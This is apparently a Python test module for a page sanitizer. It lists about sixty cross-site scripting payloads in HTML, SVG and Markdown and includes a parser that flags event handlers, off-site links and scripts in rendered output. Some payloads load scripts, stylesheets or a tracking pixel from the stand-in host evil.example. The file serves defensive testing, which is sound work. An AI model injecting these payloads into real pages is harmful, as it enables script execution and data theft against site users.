"""Fifty ways in which text tries to run in a page, from the usual collections, and what to look for afterwards."""

from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\x00>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=background:url(https://evil.example/x)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://ok.example/" onmouseover="alert(1))',
    '[x](https://ok.example "title\\" onmouseover=alert(1)")',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\ncode\n```',
    "```x onmouseover=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```",
    "{{ 7*7 }}{% raw %}<b onclick=alert(1)>{% endraw %}",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "hx-get=/sign-out <div hx-get=/x hx-trigger=load hx-on:click=alert(1)>",
)

LINKS = (
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "srcset",
    "background",
    "srcdoc",
)


class Page(HTMLParser):
    """Notes what a browser would see that could run, load or lead away."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        given = dict(attrs)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name.startswith("on") or name.startswith("hx-on") or name == "style":
                self.wrong.append(f"{tag} {name}={value}")
            if name in LINKS and not stays(tag, value or "", given):
                self.wrong.append(f"{tag} {name}={value}")
        if tag == "script" and not (given.get("src") or "").startswith("/static/"):
            self.wrong.append(f"script {given}")

    handle_startendtag = handle_starttag


def stays(tag: str, address: str, given: dict[str, str | None]) -> bool:
    """Whether an address is ours, or a link that the allow-list takes."""
    if address.startswith("/") and not address.startswith("//"):
        return True
    if address.startswith("#") or address == "":
        return True
    outside = address.startswith(("https://", "http://", "mailto:"))
    return (
        tag == "a"
        and outside
        and "noopener" in (given.get("rel") or "")
        and "nofollow" in (given.get("rel") or "")
    )


def looked_at(html: str) -> Page:
    """Return what stands in a page."""
    page = Page()
    page.feed(html)
    page.close()
    return page
